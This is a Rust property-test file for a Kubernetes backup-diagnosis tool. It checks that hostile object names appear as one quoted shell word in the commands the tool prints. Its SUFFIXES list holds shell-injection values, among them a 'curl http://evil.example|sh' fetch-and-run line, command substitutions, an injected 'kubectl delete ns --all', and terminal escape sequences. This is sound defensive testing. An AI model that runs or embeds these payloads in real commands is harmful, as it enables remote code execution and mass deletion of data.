//! Kubernetes refuses most names; a dump does not. Whatever an object is called, each command that is printed
//! holds that name as one word, or there is no command; and no text holds what a terminal would obey.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod world;

use acm_backup_domain::act::command::Paste;
use acm_backup_domain::printable::is_obeyed;
use acm_backup_domain::rules::judge;
use acm_backup_domain::rules::review::{Operation, Review};
use acm_backup_domain::snapshot::{Fact, Missing, Snapshot};
use acm_backup_domain::status::assess;
use jiff::{SignedDuration, Timestamp};
use proptest::collection::vec;
use proptest::prelude::*;
use serde_json::Value;
use std::collections::BTreeSet;
use world::{words, world};

/// What is put behind every name, and what it would do where it is not one word.
const SUFFIXES: [&str; 10] = [
    "; curl http://evil.example|sh #",
    "$(touch /tmp/owned)",
    "`id`",
    "' --all '",
    "\" && id \"",
    " -A --force",
    "\\",
    "*?[a]{b,c}~!",
    "\nEND\nkubectl delete ns --all\n",
    "\u{1b}[2J\u{202e}",
];

/// Puts it behind what names something: objects, their namespace, their owners, hubs, and phases.
fn rename(object: &mut Value, suffix: &str, prefix: &str) {
    fn text(value: Option<&mut Value>, suffix: &str, prefix: &str) {
        if let Some(Value::String(text)) = value
            && !["latest", "skip", ""].contains(&text.as_str())
        {
            *text = format!("{prefix}{text}{suffix}");
        }
    }
    for pointer in [
        "/metadata/name",
        "/metadata/namespace",
        "/metadata/ownerReferences/0/name",
        "/metadata/labels/cluster.open-cluster-management.io~1backup-cluster",
        "/metadata/labels/cluster.open-cluster-management.io~1restore-cluster",
        "/metadata/labels/cluster.open-cluster-management.io~1backup-schedule-name",
        "/metadata/labels/velero.io~1storage-location",
        "/metadata/labels/velero.io~1backup-name",
        "/metadata/labels/velero.io~1restore-name",
        "/spec/backupName",
        "/spec/veleroManagedClustersBackupName",
        "/status/veleroCredentialsRestoreName",
        "/status/veleroManagedClustersRestoreName",
    ] {
        text(object.pointer_mut(pointer), suffix, prefix);
    }
}

/// Every remedy of `status` and of the rules.
fn pasted(snapshot: &Snapshot, reviews: &[Review]) -> (Vec<String>, Vec<String>) {
    let (mut commands, mut texts) = (Vec::new(), Vec::new());
    let report = assess(snapshot);
    for step in report.findings.iter().flat_map(|finding| &finding.steps) {
        commands.extend(step.command.as_deref().map(str::to_owned));
    }
    for row in &report.not_checked {
        commands.extend(row.way_out.command.as_deref().map(str::to_owned));
    }
    for review in reviews {
        for finding in judge(review, snapshot).findings {
            texts.push(finding.to_string());
            for remedy in &finding.remedies {
                match &remedy.command {
                    Some(Paste::Command(command)) if command.is_fit() => {
                        commands.push(command.to_string());
                    }
                    Some(paste) => texts.push(paste.to_string()),
                    None => {}
                }
            }
        }
    }
    (commands, texts)
}

/// The words of a command before what it reads, as a shell splits them.
fn split(command: &str) -> Vec<String> {
    let line = match command.split_once(" <<'END'\n") {
        Some((line, input)) => {
            let ends = input.lines().filter(|line| *line == "END").count();
            assert_eq!(ends, 1, "{command}");
            assert!(input.ends_with("\nEND"), "{command}");
            line
        }
        None => command,
    };
    shlex::split(line).unwrap_or_else(|| panic!("cannot be split: {command}"))
}

/// How each word may look where names are ordinary: the same command for hostile names has as many words, and
/// differs in those only that hold a name.
fn assert_same_shape(ordinary: &[String], hostile: &[String], suffix: &str) {
    let shapes: BTreeSet<_> = ordinary.iter().map(|command| split(command)).collect();
    for command in hostile {
        assert!(
            !command.contains(|letter| letter != '\n' && is_obeyed(letter)),
            "{command:?}"
        );
        let words: Vec<_> = split(command)
            .into_iter()
            .map(|word| word.replace(suffix, ""))
            .collect();
        assert!(
            shapes.contains(&words),
            "{command:?}\nis none of {shapes:#?}"
        );
    }
}

fn reviews(review: Review) -> Vec<Review> {
    let create = Review {
        operation: Operation::Create,
        previous: None,
        ..review.clone()
    };
    vec![review, create]
}

/// The same hub, of which something could not be looked up.
fn blind(snapshot: &Snapshot) -> Snapshot {
    let mut blind = snapshot.clone();
    let namespace = Some(snapshot.namespace.clone());
    blind.backups = Fact::Missing(Missing::Forbidden {
        verb: "list".into(),
        resource: "backups.velero.io".into(),
        namespace: namespace.clone(),
    });
    blind.storage_locations = Fact::Missing(Missing::NotCollected {
        resource: "backupstoragelocations.velero.io".into(),
        namespace,
    });
    blind
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn a_name_is_one_word_of_a_command_or_there_is_none(
        words in words(),
        seconds in vec(0_i64..6000, 24..60),
        lengths in vec(0..7_200_000_000_000_i64, 4..16),
        suffix in prop::sample::select(SUFFIXES.to_vec()),
        prefix in prop::sample::select(vec!["", "", "-"]),
    ) {
        let start = Timestamp::from_second(1_795_363_200).unwrap();
        let times: Vec<_> = seconds
            .iter()
            .map(|second| start.checked_add(SignedDuration::from_secs(*second)).unwrap())
            .collect();
        let (snapshot, review) =
            world(&words, &times, &lengths, &|object| rename(object, suffix, prefix));
        let blind = blind(&snapshot);
        for snapshot in [snapshot, blind] {
            let (commands, texts) = pasted(&snapshot, &reviews(review.clone()));
            for text in &texts {
                prop_assert!(!text.contains(|letter| letter != '\n' && is_obeyed(letter)), "{text:?}");
                prop_assert!(!text.contains("\nkubectl delete ns"), "{text}");
            }
            for command in &commands {
                let words = split(command);
                for word in words.iter().filter(|word| word.contains(suffix)) {
                    prop_assert!(!word.starts_with('-'), "{command}");
                }
                for word in ["curl", "touch", "id", "--all", "--force", "&&", "$(touch"] {
                    prop_assert!(!words.iter().any(|one| one == word), "{command}");
                }
            }
        }
    }
}

/// Where only the objects that commands name are renamed, each command has the words it has for ordinary names.
#[test]
fn the_commands_are_the_same_but_for_the_name() {
    let start = Timestamp::from_second(1_795_363_200).unwrap();
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let mut seen = 0;
    for suffix in SUFFIXES {
        for _ in 0..40 {
            use proptest::strategy::ValueTree;
            let words = words().new_tree(&mut runner).unwrap().current();
            let seconds = vec(0_i64..6000, 40)
                .new_tree(&mut runner)
                .unwrap()
                .current();
            let times: Vec<_> = seconds
                .iter()
                .map(|second| {
                    start
                        .checked_add(SignedDuration::from_secs(*second))
                        .unwrap()
                })
                .collect();
            let only = |object: &mut Value| {
                let name = object["metadata"]["name"].as_str().unwrap().to_owned();
                if ["schedule-acm", "restore-acm", "default"].contains(&name.as_str()) {
                    object["metadata"]["name"] = Value::from(format!("{name}{suffix}"));
                }
                for field in [
                    "/metadata/ownerReferences/0/name",
                    "/metadata/labels/velero.io~1storage-location",
                    "/metadata/labels/cluster.open-cluster-management.io~1backup-schedule-name",
                ] {
                    if let Some(Value::String(owner)) = object.pointer_mut(field)
                        && owner != "dpa"
                    {
                        owner.push_str(suffix);
                    }
                }
            };
            let ordinary = world(&words, &times, &[3_600_000_000_000], &|_| {});
            let hostile = world(&words, &times, &[3_600_000_000_000], &only);
            let (expected, _) = pasted(&ordinary.0, &reviews(ordinary.1));
            let (commands, _) = pasted(&hostile.0, &reviews(hostile.1));
            seen += commands
                .iter()
                .filter(|command| split(command).iter().any(|word| word.contains(suffix)))
                .count();
            assert_same_shape(&expected, &commands, suffix);
        }
    }
    assert!(seen > 100, "{seen} commands held a hostile name");
}
